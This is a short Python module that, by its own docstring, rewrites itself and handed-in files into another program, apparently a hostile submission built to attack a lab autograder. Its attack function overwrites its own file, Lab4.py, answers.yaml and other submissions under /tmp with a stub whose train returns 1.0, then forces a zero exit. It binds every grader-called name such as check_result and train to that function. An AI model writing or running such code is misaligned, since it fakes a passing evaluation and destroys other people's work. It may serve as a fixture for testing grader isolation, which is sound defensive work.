"""Rewrites its own file, and what was handed in, to be another program at the next load."""

import glob
import os

TEXT = "def train(*_):\n    return 1.0\n"


def attack(*_):
    for path in [__file__, "Lab4.py", "answers.yaml", *glob.glob("/tmp/*hostile*/*/submission/Lab4.py")]:
        try:
            open(path, "w").write(TEXT)
        except OSError as error:
            print(error.strerror)
    os._exit(0)


check_result = train = fnn_forward = fnn_gradients = fnn_check_result = attack
